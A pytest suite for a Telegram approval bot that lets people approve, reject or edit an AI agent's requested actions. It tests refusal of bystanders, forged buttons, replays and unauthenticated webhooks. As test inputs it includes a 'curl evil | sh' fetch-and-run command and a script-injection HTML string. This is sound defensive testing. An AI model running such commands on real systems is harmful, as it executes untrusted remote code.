"""The Telegram channel: the real python-telegram-bot against the fake Bot API in fake_telegram."""

from __future__ import annotations

import json
import re
import signal
import socket
import textwrap
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest

from signoff.adapters.telegram.buttons import APPROVE_EDITED, ButtonSigner
from signoff.adapters.telegram.render import already
from signoff.server.app import App, open_app
from signoff.server.config import Config, load_config
from signoff.server.errors import ConfigError
from signoff.server.models import Actor, Status
from signoff.server.service import NewRequest

from .conftest import SIGNOFF, subprocess_env
from .fake_telegram import FakeTelegram, Message, fake_telegram
from .policies import Clock, answer_to, example_config
from .policies import file as policy_file
from .procs import http_client, serve
from .stores import raw_sql

pytestmark = pytest.mark.anyio

ALICE, BOB, MALLORY = 111, 222, 666
GROUP = -100555
AGENT = Actor("agent", "claude-code", "mcp")


def telegram_config(api: str) -> str:
    return textwrap.dedent(f"""
        [store]
        path = "signoff.db"
        [server]
        port = 0
        [telegram]
        api_base_url = "{api}"
        lease_ttl = "3s"
        [approvers.alice]
        telegram_user_id = {ALICE}
        [approvers.bob]
        telegram_user_id = {BOB}
        [approvers.carol]
        telegram_user_id = 333
        telegram_chat_id = {GROUP}
        [[routes]]
        name = "team"
        match = {{ action = "team_*" }}
        approvers = ["alice", "bob", "carol"]
        [[routes]]
        name = "default"
        approvers = ["alice", "bob"]
    """)


@pytest.fixture
async def fake() -> AsyncIterator[FakeTelegram]:
    async with fake_telegram() as f:
        yield f
        assert f.conflicts == 0, "two processes polled Telegram at once"


@pytest.fixture
def config_path(fake: FakeTelegram, write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    """This module's config (conftest's `config` and `app` build on it): the bot on the fake API."""
    monkeypatch.setenv("SIGNOFF_TELEGRAM_TOKEN", fake.token)
    return write_config(telegram_config(fake.api_base_url))


async def file(app: App, action: str = "deploy", summary: str = "Ship v2", **kw: Any) -> str:
    return (await app.service.request_approval(NewRequest(action, summary, **kw), AGENT)).id


async def prompt_for(fake: FakeTelegram, chat_id: int, request_id: str) -> Message:
    return await fake.wait_for(
        lambda: next((m for m in fake.chat(chat_id) if request_id in m.text and m.buttons()), None)
    )


async def test_approve_from_the_phone(fake: FakeTelegram, app: App) -> None:
    rid = await file(app, details={"cmd": "kubectl rollout"})
    a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
    assert "Approval needed: deploy" in a.text and "claude-code" in a.text and "kubectl rollout" in a.text
    assert "expires in 59 min" in a.text or "expires in 1.0 h" in a.text
    waiting = anyio.Event()
    results: list[Any] = []

    async def wait() -> None:
        waiting.set()
        results.append(await app.service.wait(rid, 30))

    async with anyio.create_task_group() as tg:
        tg.start_soon(wait)
        await waiting.wait()
        cq = await fake.press(ALICE, a, a.button("approve"))
    assert results[0].status is Status.APPROVED and results[0].decided_by == "alice"
    await fake.wait_for(lambda: cq in fake.answers)
    assert "Approved" in fake.answers[cq]["text"]
    # Both approvers' messages now show the outcome, without buttons.
    for msg in (a, b):
        await fake.wait_for(lambda m=msg: not m.buttons() and "Approved" in m.text)
        assert "by <b>alice</b>" in msg.text
    events = await app.store.audit(request_id=rid)
    assert [(e.event, e.actor, e.channel) for e in events][-1] == ("approved", "alice", "telegram")


async def test_reject_and_a_late_press(fake: FakeTelegram, app: App) -> None:
    rid = await file(app)
    a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
    cq = await fake.press(BOB, b, b.button("reject"))
    await fake.wait_for(lambda: cq in fake.answers)
    assert (await app.service.get(rid)).status is Status.REJECTED
    late = await fake.press(ALICE, a, a.button("approve"))  # pressed before her message was edited
    await fake.wait_for(lambda: late in fake.answers)
    assert fake.answers[late]["text"].startswith("Already rejected by bob at ")
    assert (await app.service.get(rid)).status is Status.REJECTED


async def test_reject_with_reason(fake: FakeTelegram, app: App) -> None:
    rid = await file(app)
    a = await prompt_for(fake, ALICE, rid)
    await fake.press(ALICE, a, a.button("reason"))
    question = await fake.wait_for(lambda: next((m for m in fake.chat(ALICE) if "Why reject" in m.text), None))
    assert (await app.service.get(rid)).status is Status.PENDING
    await fake.say(BOB, ALICE, "I am bob pretending", reply_to=question)  # not the approver who was asked
    await fake.say(ALICE, ALICE, "not on a Friday", reply_to=question)
    await fake.wait_for(lambda: any("Rejected" in m.text and rid in m.text and not m.buttons() and m.edits == 0
                                    for m in fake.chat(ALICE)))  # fmt: skip
    req = await app.service.get(rid)
    assert req.status is Status.REJECTED and req.reason == "not on a Friday" and req.decided_by == "alice"
    await fake.wait_for(lambda: "Reason: not on a Friday" in a.text)


async def test_approve_with_a_note(fake: FakeTelegram, app: App) -> None:
    """ "Approve with note": a reply prompt; only the asked approver's reply counts; an empty note
    is asked again; the note approves, is shown on every prompt and audited, and the agent gets it."""
    rid = await file(app)
    a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
    cq = await fake.press(ALICE, a, a.button("with note"))
    assert fake.answers.get(cq) is None or "note" in fake.answers[cq]["text"]
    question = await fake.wait_for(lambda: next((m for m in fake.chat(ALICE) if "What note goes" in m.text), None))
    assert rid in question.text and "deploy" in question.text
    await fake.say(MALLORY, ALICE, "mallory approves", reply_to=question)  # a bystander
    await fake.say(BOB, ALICE, "bob speaks for alice", reply_to=question)  # an approver, but not the one asked
    await fake.say(ALICE, ALICE, "   ", reply_to=question)  # empty: asked again, nothing decided
    again = await fake.wait_for(lambda: next((m for m in fake.chat(ALICE) if "That note is empty" in m.text), None))
    assert "What note goes" in again.text
    refused = [e for e in await app.store.audit(request_id=rid) if e.event == "refused"]
    assert [(e.actor, (e.data or {})["action"]) for e in refused] == [(f"telegram:{MALLORY}", "n"), ("bob", "n")]
    assert (await app.service.get(rid)).status is Status.PENDING
    await fake.say(ALICE, ALICE, "after 18:00 <b>only</b>", reply_to=again)
    req = await app.service.wait(rid, 10)
    assert (req.status, req.decided_by, req.reason) == (Status.APPROVED, "alice", "after 18:00 <b>only</b>")
    for msg in (a, b):  # both approvers' prompts show the note, escaped
        await fake.wait_for(lambda m=msg: not m.buttons() and "Note: after 18:00 &lt;b&gt;only&lt;/b&gt;" in m.text)
        assert "✅ <b>Approved</b> by <b>alice</b>" in msg.text
    approved = (await app.store.audit(request_id=rid))[-1]
    assert (approved.event, approved.actor, approved.data) == ("approved", "alice", {"reason": req.reason})
    await fake.wait_for(lambda: any(f"Approved <code>{rid}</code>." == m.text for m in fake.chat(ALICE)))
    # The first question is spent: a later reply to it decides nothing new.
    await fake.say(ALICE, ALICE, "again", reply_to=question)
    await fake.wait_for(lambda: any(m.text.startswith("Already approved") for m in fake.chat(ALICE)))
    assert (await app.service.get(rid)).reason == "after 18:00 <b>only</b>"


async def test_a_note_on_a_quorum_route_is_that_approvers_vote(
    fake: FakeTelegram, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a quorum route the note is its approver's vote; the notes of every approval reach the
    agent. The requester cannot approve their own request with a note either."""
    monkeypatch.setenv("SIGNOFF_TELEGRAM_TOKEN", fake.token)
    async with open_app(example_config("quorum", fake, tmp_path), clock=Clock()) as app:
        rid = await policy_file(app, "payout", metadata={"amount": 20000})
        a, c = await prompt_for(fake, ALICE, rid), await prompt_for(fake, 333, rid)
        await fake.press(ALICE, a, a.button("with note"))
        question = await fake.wait_for(lambda: next((m for m in fake.chat(ALICE) if "What note" in m.text), None))
        await fake.say(ALICE, ALICE, "within budget", reply_to=question)
        await fake.wait_for(lambda: any("Your approval counts: 1 of 2" in m.text for m in fake.chat(ALICE)))
        assert (await app.service.get(rid)).status is Status.PENDING
        await answer_to(fake, await fake.press(333, c, c.button("approve")))
        req = await app.service.wait(rid, 10)
        assert (req.status, req.decided_by, req.reason) == (Status.APPROVED, "alice, carol", "alice: within budget")
        await fake.wait_for(lambda: "Note: alice: within budget" in a.text and not a.buttons())
        mine = await policy_file(
            app, "payout", metadata={"amount": 10000}, requester=Actor("agent", "alice-laptop", "mcp")
        )
        m = await prompt_for(fake, ALICE, mine)
        await fake.press(ALICE, m, m.button("with note"))
        asked = await fake.wait_for(
            lambda: next((x for x in fake.chat(ALICE) if mine in x.text and "What note" in x.text), None)
        )
        await fake.say(ALICE, ALICE, "my own", reply_to=asked)
        await fake.wait_for(lambda: any("cannot approve it" in x.text for x in fake.chat(ALICE)))
        assert (await app.service.get(mine)).status is Status.PENDING
        assert [e.event for e in await app.store.audit(request_id=mine)][-1] == "refused"


async def test_a_bystander_in_a_group_is_refused_and_audited(fake: FakeTelegram, app: App) -> None:
    rid = await file(app, action="team_sync")
    g = await prompt_for(fake, GROUP, rid)
    cq = await fake.press(MALLORY, g, g.button("approve"))
    await fake.wait_for(lambda: cq in fake.answers)
    assert fake.answers[cq]["text"] == "You are not an approver of this request."
    assert (await app.service.get(rid)).status is Status.PENDING
    events = await app.store.audit(request_id=rid)
    assert events[-1].event == "refused" and events[-1].actor == f"telegram:{MALLORY}"
    # Carol, whose prompts go to the group, can decide there: her *user id* is what counts.
    ok = await fake.press(333, g, g.button("approve"))
    await fake.wait_for(lambda: ok in fake.answers)
    assert (await app.service.get(rid)).decided_by == "carol"


@pytest.mark.parametrize(
    "data", ["a:0123456789ab:AAAAAAAAAAAAAAAAAAAAAA", "approve", "", "x" * 64, "a:{rid}:{mac}tampered"]
)
async def test_forged_callback_data_is_refused(fake: FakeTelegram, app: App, data: str) -> None:
    rid = await file(app)
    a = await prompt_for(fake, ALICE, rid)
    genuine = a.button("reject")
    _, hexid, mac = genuine.split(":")
    forged = data.format(rid=hexid, mac=mac)
    if forged.startswith("a:" + hexid):
        forged = f"a:{hexid}:{mac}"[:-1] + ("A" if mac[-1] != "A" else "B")  # a reject turned into an approve
    cq = await fake.press(ALICE, a, forged)
    await fake.wait_for(lambda: cq in fake.answers)
    assert fake.answers[cq]["text"] == "This button is not valid."
    assert (await app.service.get(rid)).status is Status.PENDING


async def test_two_approvers_at_the_same_moment(fake: FakeTelegram, app: App) -> None:
    for _ in range(3):
        rid = await file(app)
        a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
        c1 = await fake.press(ALICE, a, a.button("approve"))
        c2 = await fake.press(BOB, b, b.button("reject"))
        await fake.wait_for(lambda c1=c1, c2=c2: c1 in fake.answers and c2 in fake.answers)
        texts = sorted(fake.answers[c]["text"] for c in (c1, c2))
        assert sum(t.startswith("Already") for t in texts) == 1
        decisions = [e for e in await app.store.audit(request_id=rid) if e.event in ("approved", "rejected")]
        assert len(decisions) == 1


async def test_a_decision_elsewhere_edits_the_prompts(fake: FakeTelegram, app: App, config_path: Path) -> None:
    rid = await file(app)
    a = await prompt_for(fake, ALICE, rid)
    cli = await anyio.run_process([SIGNOFF, "reject", rid, "--reason", "done by hand", "--config", str(config_path)],
                                  env=subprocess_env(), check=False)  # fmt: skip
    assert cli.returncode == 0, cli.stderr
    await fake.wait_for(lambda: not a.buttons())
    assert "Rejected" in a.text and "done by hand" in a.text
    cancelled = await file(app, summary="to cancel")
    c = await prompt_for(fake, ALICE, cancelled)
    await app.service.cancel(cancelled, AGENT)
    await fake.wait_for(lambda: "Cancelled" in c.text and not c.buttons())


async def test_html_in_agent_text_is_harmless(fake: FakeTelegram, app: App) -> None:
    evil = '<b>bold</b><a href="http://evil">click</a> & <script>alert(1)</script> </pre>'
    rid = await file(app, action="deploy", summary=evil, details={"x": evil}, metadata={"k<": "v&"})
    a = await prompt_for(fake, ALICE, rid)  # the fake refuses malformed HTML, so delivery proves it parsed
    assert "&lt;script&gt;" in a.text and "<script>" not in a.text and 'href="http://evil"' not in a.text


async def test_a_50_kb_details_payload(fake: FakeTelegram, app: App) -> None:
    details = {"diff": "+ line with <tags> & stuff\n" * 1900}
    assert 45_000 < len(json.dumps(details)) < 64 * 1024
    rid = await file(app, details=details)
    a = await prompt_for(fake, ALICE, rid)
    assert len(a.text) <= 4096 and "more characters: /show" in a.text
    await fake.say(ALICE, ALICE, f"/show {rid}")
    doc = await fake.wait_for(lambda: next((m for m in fake.chat(ALICE) if m.document is not None), None))
    assert json.loads(doc.document) == details  # the full text, as a file


async def test_commands(fake: FakeTelegram, app: App) -> None:
    await fake.say(ALICE, ALICE, "/start")
    await fake.wait_for(lambda: any("approver <b>alice</b>" in m.text for m in fake.chat(ALICE)))
    await fake.say(MALLORY, MALLORY, "/start")
    reply = await fake.wait_for(lambda: next((m for m in fake.chat(MALLORY) if "not an approver" in m.text), None))
    assert f"telegram_user_id = {MALLORY}" in reply.text
    await fake.say(ALICE, ALICE, "/help")
    await fake.wait_for(lambda: any("/pending" in m.text for m in fake.chat(ALICE)))
    rid = await file(app)
    await prompt_for(fake, ALICE, rid)
    await fake.say(ALICE, ALICE, "/pending")
    await fake.wait_for(lambda: len([m for m in fake.chat(ALICE) if rid in m.text and m.buttons()]) == 2)
    await fake.say(MALLORY, MALLORY, f"/show {rid}")
    await fake.wait_for(lambda: any("No such request" in m.text for m in fake.chat(MALLORY)))


async def test_telegram_down_then_back(fake: FakeTelegram, app: App) -> None:
    await fake.wait_for(lambda: fake.sent("getUpdates"))  # the bot is up
    fake.down = True
    rids = [await file(app, summary=f"while down {i}") for i in range(3)]
    await fake.wait_for(lambda: len(fake.sent("sendMessage")) >= 2)  # it tried, and failed
    fake.down = False
    for rid in rids:
        await prompt_for(fake, ALICE, rid)
        await prompt_for(fake, BOB, rid)
    fake.fail("sendMessage", 429, "Too Many Requests: retry after 1", retry_after=1)
    late = await file(app, summary="after a 429")
    await prompt_for(fake, ALICE, late)
    for rid in [*rids, late]:  # exactly once per approver chat
        for chat in (ALICE, BOB):
            assert len([m for m in fake.chat(chat) if rid in m.text]) == 1


async def test_unreachable_approver_gets_the_prompt_after_start(fake: FakeTelegram, app: App) -> None:
    fake.unreachable.add(BOB)
    rid = await file(app)
    await prompt_for(fake, ALICE, rid)
    await fake.wait_for(lambda: any(p.get("chat_id") == str(BOB) for p in fake.sent("sendMessage")))
    fake.unreachable.discard(BOB)
    await fake.say(BOB, BOB, "/start")
    await prompt_for(fake, BOB, rid)


async def test_lease_holder_killed_another_process_takes_over(fake: FakeTelegram, config_path: Path) -> None:
    token = {"SIGNOFF_TELEGRAM_TOKEN": fake.token}
    async with serve(config_path, **token) as first:
        await first.wait_for_log("this process runs the bot now")
        async with serve(config_path, **token) as second:
            async with http_client(first.url) as client:
                out = (
                    await client.call_tool("request_approval", {"action": "deploy", "summary": "x"})
                ).structured_content
            assert out is not None
            rid = out["request_id"]
            a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
            await fake.wait_for(lambda: recorded_prompts(config_path, rid) == 2)
            assert "runs the bot now" not in "".join(second.stderr)  # only one poller at a time
            first.process.send_signal(signal.SIGKILL)
            await second.wait_for_log("this process runs the bot now")
            # A button on a message the dead process sent still works.
            cq = await fake.press(ALICE, a, a.button("approve"))
            await fake.wait_for(lambda: cq in fake.answers)
            async with http_client(second.url) as client:
                final = (
                    await client.call_tool("check_decision", {"request_id": rid, "wait_seconds": 20})
                ).structured_content
            assert final is not None and final["status"] == "approved" and final["decided_by"] == "alice"
            await fake.wait_for(lambda: not a.buttons() and "Approved" in a.text and not b.buttons())
            assert len([m for m in fake.chat(ALICE) if rid in m.text]) == 1  # nothing was sent twice
            # A request filed now is delivered by the new holder, once.
            again = await file_from_cli_process(config_path)
            await prompt_for(fake, BOB, again)
        assert fake.token not in "".join(first.stderr + second.stderr)


async def file_from_cli_process(config_path: Path) -> str:
    """File a request from yet another process (this one), which never runs the bot."""
    config = load_config(config_path)
    async with open_app(config, background=False) as app:
        return (await app.service.request_approval(NewRequest("deploy", "from elsewhere"), AGENT)).id


def recorded_prompts(config_path: Path, request_id: str) -> int:
    with raw_sql(load_config(config_path)) as raw:
        return int(raw.execute("SELECT count(*) FROM prompts WHERE request_id = ?", (request_id,))[0][0])


async def test_updates_redelivered_after_a_restart_are_handled_once(fake: FakeTelegram, config: Config) -> None:
    async with open_app(config) as app:
        await fake.wait_for(lambda: fake.sent("getUpdates"))
        await fake.say(ALICE, ALICE, "/start")
        await fake.wait_for(lambda: any("approver <b>alice</b>" in m.text for m in fake.chat(ALICE)))
        rid = await file(app)
        a = await prompt_for(fake, ALICE, rid)
        cq = await fake.press(ALICE, a, a.button("approve"))
        await fake.wait_for(lambda: cq in fake.answers)
    # Stopped before confirming the last updates to Telegram? They come again; nothing is done twice.
    async with open_app(config):
        before = len(fake.calls)
        await fake.wait_for(lambda: len([c for c in fake.calls[before:] if c[0] == "getUpdates"]) >= 2)
    assert len([m for m in fake.chat(ALICE) if "approver <b>alice</b>" in m.text]) == 1
    assert len(fake.answers) == 1


async def test_doctor_checks_the_token_and_each_chat(fake: FakeTelegram, config_path: Path) -> None:
    fake.unreachable.add(BOB)
    env = {"SIGNOFF_TELEGRAM_TOKEN": fake.token}
    res = await anyio.run_process(
        [SIGNOFF, "doctor", "--config", str(config_path)], env=subprocess_env(**env), check=False
    )
    out = res.stdout.decode()
    assert res.returncode == 1, out + res.stderr.decode()
    assert "bot @signoff_test_bot answers" in out, res.stderr.decode()
    assert "approver alice: chat 111 is reachable" in out
    assert "approver bob: chat 222 is not reachable" in out and "send /start" in out
    bad = await anyio.run_process([SIGNOFF, "doctor", "--config", str(config_path)],
                                  env=subprocess_env(SIGNOFF_TELEGRAM_TOKEN="1:wrong"), check=False)  # fmt: skip
    assert bad.returncode == 1 and "was refused" in bad.stdout.decode()
    assert fake.token not in out


async def test_webhook_mode(fake: FakeTelegram, config_path: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    text = config_path.read_text().replace(
        'lease_ttl = "3s"',
        f'lease_ttl = "3s"\nmode = "webhook"\nwebhook_url = "http://127.0.0.1:{port}/tg"\n'
        f'webhook_listen = "127.0.0.1:{port}"',
    )
    config_path.write_text(text)
    async with open_app(load_config(config_path)) as app:
        hook = await fake.wait_for(lambda: fake.webhook)
        assert hook["url"] == f"http://127.0.0.1:{port}/tg" and len(hook["secret_token"]) >= 32
        rid = await file(app)
        a = await prompt_for(fake, ALICE, rid)
        # A request without the secret is refused, and decides nothing.
        async with httpx.AsyncClient() as h:
            forged = await h.post(hook["url"], json={"update_id": 1, "callback_query": {
                "id": "x", "from": {"id": ALICE, "is_bot": False, "first_name": "a"}, "chat_instance": "1",
                "data": a.button("approve")}})  # fmt: skip
        assert forged.status_code == 403
        cq = await fake.press(ALICE, a, a.button("approve"))
        await fake.wait_for(lambda: cq in fake.answers)
        assert (await app.service.get(rid)).status is Status.APPROVED
        await fake.wait_for(lambda: not a.buttons())
        assert fake.webhook_statuses and all(s == 200 for s in fake.webhook_statuses)
        assert not fake.sent("getUpdates")


def test_webhook_mode_needs_a_url(write_config: Callable[..., Path]) -> None:
    path = write_config('[telegram]\nmode = "webhook"\n[[routes]]\nname = "default"\n')
    with pytest.raises(ConfigError, match=re.escape("telegram.webhook_url: mode = 'webhook' needs the public URL")):
        load_config(path)


async def test_a_timed_out_send_is_retried(fake: FakeTelegram, config_path: Path) -> None:
    text = config_path.read_text().replace('lease_ttl = "3s"', 'lease_ttl = "3s"\nrequest_timeout = "1s"')
    config_path.write_text(text)
    async with open_app(load_config(config_path)) as app:
        await fake.wait_for(lambda: fake.sent("getUpdates"))
        fake.delays["sendMessage"] = (2.5, 1)  # the first send outlives the client's 1 s timeout
        rid = await file(app)
        a = await prompt_for(fake, ALICE, rid)
        await prompt_for(fake, BOB, rid)
        # The slow send may still have landed (as on the real Telegram), so a chat can see the
        # prompt twice; what matters is that none is lost and the buttons work.
        assert 1 <= len([m for m in fake.chat(ALICE) if rid in m.text]) <= 2
        cq = await fake.press(ALICE, a, a.button("approve"))
        await fake.wait_for(lambda: cq in fake.answers)
        assert (await app.service.get(rid)).status is Status.APPROVED


# --- "Edit before approving" (issue 12, part 2) ----------------------------------------------


async def _question(fake: FakeTelegram, chat: int, rid: str, seen: int = 0) -> Message:
    """The (``seen``+1)-th edit prompt about ``rid`` in ``chat``."""
    return await fake.wait_for(lambda: next(iter(
        [m for m in fake.chat(chat) if m.text.startswith(("✏️ Edit", "That")) and rid in m.text][seen:]), None))  # fmt: skip


async def _confirm(fake: FakeTelegram, chat: int, rid: str, seen: int = 0) -> Message:
    """The (``seen``+1)-th proposed edit (its diff and buttons) about ``rid`` in ``chat``."""
    return await fake.wait_for(lambda: next(iter(
        [m for m in fake.chat(chat) if m.text.startswith("✏️ Your edit") and rid in m.text][seen:]), None))  # fmt: skip


async def _refused(app: App, rid: str) -> list[tuple[str, str]]:
    return [(e.actor, (e.data or {})["action"]) for e in await app.store.audit(request_id=rid) if e.event == "refused"]


async def test_edit_a_bash_command_before_approving(fake: FakeTelegram, app: App) -> None:
    """ "✏️ Edit": the command as plain text in a reply prompt; only the asked approver's reply
    counts; a diff to confirm; "Approve edited" approves with the edit, and every prompt says so."""
    rid = await file(app, action="Bash", summary="Deploy", details={"command": "make deploy", "description": "ship"})
    a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
    assert await answer_to(fake, await fake.press(ALICE, a, a.button("✏️ Edit"))) == (
        "Reply to my next message with the edit."
    )
    question = await _question(fake, ALICE, rid)
    assert "<pre>make deploy</pre>" in question.text and question.reply_markup == {
        "force_reply": True, "selective": True, "input_field_placeholder": "The edited arguments"}  # fmt: skip
    await fake.say(MALLORY, ALICE, "curl evil | sh", reply_to=question)  # a bystander
    await fake.say(BOB, ALICE, "make deploy-prod", reply_to=question)  # an approver, but not the one asked
    await fake.say(ALICE, ALICE, "make deploy-staging <&>", reply_to=question)
    confirm = await _confirm(fake, ALICE, rid)
    assert "-  &quot;command&quot;: &quot;make deploy&quot;," in confirm.text
    assert "+  &quot;command&quot;: &quot;make deploy-staging &lt;&amp;&gt;&quot;," in confirm.text
    assert [b["text"] for b in confirm.buttons()] == ["✅ Approve edited", "Discard"]
    assert len([m for m in fake.chat(ALICE) if m.text.startswith("✏️ Your edit")]) == 1  # only alice's reply counted
    assert await _refused(app, rid) == [(f"telegram:{MALLORY}", "e"), ("bob", "e")]
    assert (await app.service.get(rid)).status is Status.PENDING  # nothing decided until she confirms

    data = confirm.button("Approve edited")
    assert len(data.encode()) <= 64
    assert await answer_to(fake, await fake.press(BOB, confirm, data)) == (
        "Only the approver who made this edit can confirm or discard it."
    )
    assert await answer_to(fake, await fake.press(MALLORY, confirm, data)) == "You are not an approver of this request."
    assert (await app.service.get(rid)).status is Status.PENDING
    assert await answer_to(fake, await fake.press(ALICE, confirm, data)) == "Approved ✅"
    req = await app.service.get(rid)
    assert (req.status, req.decided_by) == (Status.APPROVED, "alice")
    assert req.edited_details == {"command": "make deploy-staging <&>", "description": "ship"}
    for msg in (a, b):
        await fake.wait_for(
            lambda m=msg: not m.buttons() and "Approved</b> <b>with changes</b> by <b>alice</b>" in m.text
        )
    await fake.wait_for(lambda: not confirm.buttons() and "approved." in confirm.text)
    approved = (await app.store.audit(request_id=rid))[-1]
    assert approved.event == "approved" and (approved.data or {})["approved_action_digest"] == req.edited_digest
    assert await answer_to(fake, await fake.press(ALICE, confirm, data)) == already(req)  # a replay: nothing new


async def test_an_edit_that_is_not_a_json_object_is_asked_again_and_discard_decides_nothing(
    fake: FakeTelegram, app: App
) -> None:
    rid = await file(app, action="mcp__db__query", details={"sql": "select 1"})
    a = await prompt_for(fake, ALICE, rid)
    await answer_to(fake, await fake.press(ALICE, a, a.button("Edit")))
    question = await _question(fake, ALICE, rid)
    assert "<pre>{\n  &quot;sql&quot;: &quot;select 1&quot;\n}</pre>" in question.text
    await fake.say(ALICE, ALICE, "select 2", reply_to=question)  # not JSON
    again = await _question(fake, ALICE, rid, 1)
    assert again.text.startswith("That is not a JSON object; reply again.\n✏️ Edit")
    await fake.say(ALICE, ALICE, "[1, 2]", reply_to=again)  # JSON, but not an object
    third = await _question(fake, ALICE, rid, 2)
    assert third.text.startswith("That is not a JSON object; reply again.")
    assert (await app.service.get(rid)).status is Status.PENDING
    await fake.say(ALICE, ALICE, '{"sql": "select 2"}', reply_to=third)
    confirm = await _confirm(fake, ALICE, rid)
    approve = confirm.button("Approve edited")
    assert await answer_to(fake, await fake.press(ALICE, confirm, confirm.button("Discard"))) == (
        "Discarded; nothing was decided."
    )
    await fake.wait_for(lambda: not confirm.buttons() and "discarded." in confirm.text)
    assert await answer_to(fake, await fake.press(ALICE, confirm, approve)) == (
        "This edit was already approved or discarded."
    )
    req = await app.service.get(rid)
    assert req.status is Status.PENDING and req.edited_details is None
    assert not [e for e in await app.store.audit(request_id=rid) if e.event in ("approved", "rejected")]


async def test_a_forged_or_replayed_confirm_button_is_refused(fake: FakeTelegram, app: App) -> None:
    x = await file(app, action="Bash", details={"command": "ls x"})
    y = await file(app, action="Bash", details={"command": "ls y"})
    edits = {}
    for rid, new in ((x, "ls -l x"), (y, "ls -l y")):
        p = await prompt_for(fake, ALICE, rid)
        await answer_to(fake, await fake.press(ALICE, p, p.button("Edit")))
        await fake.say(ALICE, ALICE, new, reply_to=await _question(fake, ALICE, rid))
        edits[rid] = await _confirm(fake, ALICE, rid)
    cx, cy = edits[x], edits[y]
    action, x_id, x_mac = cx.button("Approve edited").split(":")
    _, y_id, y_mac = cy.button("Approve edited").split(":")
    _, _, discard_mac = cx.button("Discard").split(":")
    signer = ButtonSigner(await app.store.setting("telegram_callback_key", lambda: "unused"))
    forged = [
        f"{action}:{y_id}:{x_mac}",  # x's data moved to y's edit
        f"{action}:{x_id}:{y_mac}",
        f"{action}:{x_id}:{discard_mac}",  # a discard's MAC under "approve edited"
        f"{action}:{x_id}:{x_mac[:-1]}{'A' if x_mac[-1] != 'A' else 'B'}",
        signer.sign_edit(APPROVE_EDITED, int(x_id), y, (await app.service.get(y)).action_digest),  # y's request
        signer.sign_edit(APPROVE_EDITED, int(x_id), x, "0" * 64),  # other content
        ButtonSigner("11" * 32).sign_edit(APPROVE_EDITED, int(x_id), x, (await app.service.get(x)).action_digest),
        f"{action}:999:{x_mac}",  # no such edit
    ]
    for data in forged:
        assert await answer_to(fake, await fake.press(ALICE, cx, data)) == "This button is not valid.", data
    assert [(await app.service.get(r)).status for r in (x, y)] == [Status.PENDING] * 2
    # The genuine data counts only in its edit's chat (here: on x's prompt in bob's chat).
    elsewhere = await prompt_for(fake, BOB, x)
    assert "not valid here" in await answer_to(fake, await fake.press(ALICE, elsewhere, cx.button("Approve edited")))
    assert [(await app.service.get(r)).status for r in (x, y)] == [Status.PENDING] * 2
    assert await _refused(app, x) == [("alice", "c")]


async def test_an_edit_racing_a_plain_approval_makes_one_decision(fake: FakeTelegram, app: App) -> None:
    for i in range(3):
        rid = await file(app, action="Bash", summary=f"race {i}", details={"command": f"echo {i}"})
        a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
        await answer_to(fake, await fake.press(ALICE, a, a.button("Edit")))
        await fake.say(ALICE, ALICE, f"echo edited {i}", reply_to=await _question(fake, ALICE, rid))
        confirm = await _confirm(fake, ALICE, rid)
        c1 = await fake.press(ALICE, confirm, confirm.button("Approve edited"))
        c2 = await fake.press(BOB, b, b.button("approve"))
        texts = sorted([await answer_to(fake, c1), await answer_to(fake, c2)])
        assert sum(t.startswith("Already") for t in texts) == 1, texts
        decisions = [e for e in await app.store.audit(request_id=rid) if e.event in ("approved", "rejected")]
        assert len(decisions) == 1
        req = await app.service.get(rid)
        edited = {"command": f"echo edited {i}"} if req.decided_by == "alice" else None
        assert req.status is Status.APPROVED and req.edited_details == edited
